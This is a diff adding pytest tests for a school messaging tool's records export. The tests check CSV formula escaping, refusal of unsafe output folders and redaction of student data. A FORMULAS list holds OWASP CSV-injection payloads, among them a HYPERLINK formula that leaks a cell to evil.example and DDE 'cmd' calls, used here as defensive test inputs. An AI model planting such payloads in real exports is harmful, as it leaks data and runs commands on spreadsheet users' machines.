@@ -4,7 +4,9 @@ officer asks, and fails verification when any byte of any file changes."""
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import json
 import re
 import shutil
@@ -14,7 +16,13 @@ from zoneinfo import ZoneInfo
 
 import pytest
 import time_machine
+from hypothesis import given
+from hypothesis import strategies as st
+from sqlalchemy import select
 
+from broadcaster import db
+from broadcaster import export as export_module
+from broadcaster.models import LedgerEntry, LedgerPayload
 from tests.conftest import submit_and_approve
 from tests.delivery_stack import write_contacts
 
@@ -173,3 +181,178 @@ def test_an_export_after_a_retention_purge_still_verifies(run, tokens, compose_c
     assert ledger[-1]["seq"] == purged["destruction_record"]  # the record travels with them
     message = rows(out, "messages")[0]
     assert message["content_destroyed"] and message["variables"] == {}
+
+
+def exports_recorded(db_url: str) -> list[dict]:
+    """The payloads of the ledger's records.exported entries."""
+    with db.session_scope(db_url) as session:
+        bodies = session.scalars(
+            select(LedgerPayload.body)
+            .join(LedgerEntry, LedgerEntry.seq == LedgerPayload.seq)
+            .where(LedgerEntry.event == "records.exported")
+            .order_by(LedgerEntry.seq)
+        )
+        return [json.loads(body) for body in bodies]
+
+
+def every_file(folder: Path) -> str:
+    return "\n".join(p.read_text(encoding="utf-8") for p in sorted(folder.iterdir()))
+
+
+# OWASP CSV injection: what a spreadsheet runs when a cell starts with it.
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\uff1d1+1 (a full-width equals sign)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text_and_jsonl_keeps_them(
+    run, tokens, compose_closure, tmp_path
+):
+    """A rejection reason is a cell of its own in approvals.csv: typed as a formula, it is
+    written with a leading quote; the JSON Lines keep it exactly as stored. (The way in strips
+    a reason's leading tab or CR; the writer's own test below covers those.)"""
+    for formula in FORMULAS:
+        draft = compose_closure()
+        assert run("submit", str(draft["id"]), "--as", "ana", token=tokens["ana"]).exit_code == 0
+        said = run(
+            "reject", str(draft["id"]), "--as", "ben", "--reason", formula, token=tokens["ben"]
+        )
+        assert said.exit_code in (0, 2), said.output  # 2: a way in may refuse a control character
+    out = tmp_path / "export"
+    assert export(run, tokens["dev"], out).exit_code == 0
+    assert verify(run, out)[0] == 0
+
+    cells = [
+        cell
+        for path in out.glob("*.csv")
+        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))
+        for cell in row
+    ]
+    assert not [c for c in cells if c.startswith(export_module.FORMULA_START)]
+    stored = {row["reason"] for row in rows(out, "approvals")}
+    assert set(FORMULAS[:5]) <= stored
+    with (out / "approvals.csv").open(encoding="utf-8", newline="") as handle:
+        written = {row["reason"] for row in csv.DictReader(handle)}
+    assert written == {"'" + reason for reason in stored}
+    assert "single quote" in (out / "README.txt").read_text()
+
+
+@given(st.text())
+def test_no_csv_cell_starts_a_formula_and_none_loses_its_text(text):
+    written = export_module._csv([{"value": text, "list": [text]}]).decode("utf-8")
+    header, row = list(csv.reader(io.StringIO(written, newline="")))
+    cell = dict(zip(header, row, strict=True))["value"]
+    assert not cell.startswith(export_module.FORMULA_START)
+    assert cell in (text, "'" + text)
+
+
+def test_an_out_that_is_a_link_not_empty_or_not_writable_is_refused_and_not_recorded(
+    run, tokens, compose_closure, tmp_path, db_url
+):
+    draft = compose_closure()
+    empty = tmp_path / "empty"
+    empty.mkdir()
+    full = tmp_path / "full"
+    full.mkdir()
+    (full / "notes.txt").write_text("someone's work")
+    a_file = tmp_path / "a-file.txt"
+    a_file.write_text("not a folder")
+    (tmp_path / "link").symlink_to(empty, target_is_directory=True)
+    (tmp_path / "dangling").symlink_to(tmp_path / "nowhere")
+    refused = {
+        tmp_path / "link": "symbolic link",
+        tmp_path / "dangling": "symbolic link",
+        full: "not an empty folder",
+        a_file: "not an empty folder",
+        a_file / "export": "write",
+        Path("/sys/broadcaster-export"): "write",  # read-only even for root
+    }
+    before = sorted(p.name for p in tmp_path.iterdir())
+    for out, why in refused.items():
+        result = run(
+            "records", "export", "--message", str(draft["id"]), "--out", str(out),
+            "--as", "dev", token=tokens["dev"],
+        )  # fmt: skip
+        assert result.exit_code == 2, (out, result.output)
+        assert why in result.stderr and "--out" in result.stderr, result.stderr
+        assert len(result.stderr.strip().splitlines()) == 1, result.stderr
+    assert exports_recorded(db_url) == []
+    assert sorted(p.name for p in tmp_path.iterdir()) == before  # no partial folder left
+    assert list(empty.iterdir()) == [] and (full / "notes.txt").read_text() == "someone's work"
+
+    out = tmp_path / "good"
+    assert export(run, tokens["dev"], out).exit_code == 0
+    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([*before, "good"])
+    manifest = json.loads((out / "manifest.json").read_text())
+    [recorded] = exports_recorded(db_url)
+    assert recorded["manifest_sha256"] == manifest["manifest_sha256"]
+    assert recorded["messages"] == [draft["id"]]
+    assert verify(run, out)[0] == 0
+    assert export(run, tokens["dev"], empty).exit_code == 0  # an empty folder is fine
+    assert verify(run, empty)[0] == 0 and len(exports_recorded(db_url)) == 2
+
+
+# A blocked draft: every FERPA check matches something in its details (Facebook and web only).
+STUDENT_DATA = {
+    "student id": ["S2345678"],
+    "ssn": ["123-45-6789"],
+    "date of birth": ["born on March 3, 2015"],
+    "student name": ["José Núñez", "Maria Gonzalez"],
+    "personal phone": ["(415) 555-0142"],
+    "personal email": ["jo.parent@gmail.com"],
+}
+DETAILS = (
+    "José Núñez (S2345678, SSN 123-45-6789, born on March 3, 2015) and Maria Gonzalez: "
+    "call (415) 555-0142 or write to jo.parent@gmail.com"
+)
+
+
+def test_student_data_a_check_matched_is_redacted_in_every_file(
+    run, tokens, compose_closure, tmp_path
+):
+    draft = compose_closure("--var", f"details={DETAILS}")
+    blocked = {f["check"] for f in draft["findings"] if f["severity"] == "block"}
+    assert {"student_id", "ssn", "date_of_birth", "student_name"} <= blocked, draft["findings"]
+    message = ("--message", str(draft["id"]))
+
+    def export_draft(out: Path, *extra: str, user: str = "dev", token: str = tokens["dev"]):
+        return run(
+            "records", "export", *message, "--out", str(out), *extra, "--as", user, token=token
+        )
+
+    out = tmp_path / "redacted"
+    assert export_draft(out).exit_code == 0
+    assert verify(run, out)[0] == 0
+    everything = every_file(out)
+    for rule, texts in STUDENT_DATA.items():
+        for text in texts:
+            assert text not in everything, (rule, text)
+        assert f"[redacted: {rule}]" in everything, rule
+    readme = (out / "README.txt").read_text()
+    for rule in STUDENT_DATA:
+        assert re.search(rf"^  {rule}: \d+ in ", readme, re.MULTILINE), (rule, readme)
+    ledger = rows(out, "ledger")
+    assert any(
+        r["payload_state"] == "redacted" and r["event"] == "rendition.rendered" for r in ledger
+    )
+    renditions = {r["channel"]: r["text"] for r in rows(out, "renditions")}
+    assert "[redacted: student name]" in renditions["web"]
+
+    admin = run.json("users", "add", "it")["token"]
+    refused = export_draft(tmp_path / "by-admin", "--include-student-data", user="it", token=admin)
+    assert refused.exit_code == 2 and "records_officer" in refused.stderr
+    assert not (tmp_path / "by-admin").exists()
+
+    kept = tmp_path / "kept"
+    assert export_draft(kept, "--include-student-data").exit_code == 0
+    assert verify(run, kept)[0] == 0
+    everything = every_file(kept)
+    assert all(text in everything for texts in STUDENT_DATA.values() for text in texts)
+    assert "[redacted:" not in everything
+    assert "--include-student-data" in (kept / "README.txt").read_text()
